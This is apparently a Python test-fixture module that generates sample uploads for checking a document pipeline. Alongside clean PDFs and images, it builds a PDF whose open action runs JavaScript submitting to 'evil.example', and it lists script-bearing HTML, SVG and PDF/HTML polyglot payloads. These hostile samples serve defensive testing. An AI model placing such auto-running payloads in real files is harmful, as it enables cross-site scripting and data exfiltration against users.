"""Documents that can be drawn, good and bad."""

from datetime import UTC, datetime
from io import BytesIO

import typst
from PIL import Image


def pdf(*lines: str, pages: int = 1) -> bytes:
    """A PDF with these lines on each page."""
    page = "\n\n".join(f"#{line!r}".replace("'", '"') for line in lines) or "#[]"
    source = "\n#pagebreak()\n".join([page] * pages)
    dated = datetime(2026, 1, 1, tzinfo=UTC)  # so that the same lines give the same bytes
    return bytes(typst.compile(source.encode(), format="pdf", timestamp=dated))


def picture(kind: str = "PNG", size: tuple[int, int] = (300, 200), **more: object) -> bytes:
    """A picture of nothing."""
    kept = BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(kept, kind, **more)
    return kept.getvalue()


def with_script() -> bytes:
    """A PDF that wants to run a script when it is opened."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] >>",
        b"<< /S /JavaScript /JS (app.alert('run'); this.submitForm('http://evil.example');) >>",
    ]
    content, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(content))
        content += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(content)
    content += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    content += b"".join(b"%010d 00000 n \n" % place for place in places)
    return content + (
        b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    )


HOSTILE = {
    "a web page": b"<!doctype html><script>document.title='run'</script>",
    "a web page after a PDF's first line": b"%PDF-1.7\n<html><script>alert(1)</script></html>",
    "a drawing with a script": (
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
    ),
    "nothing": b"",
}
"""What gets past no check of an upload; here it is looked at what happens if it did."""
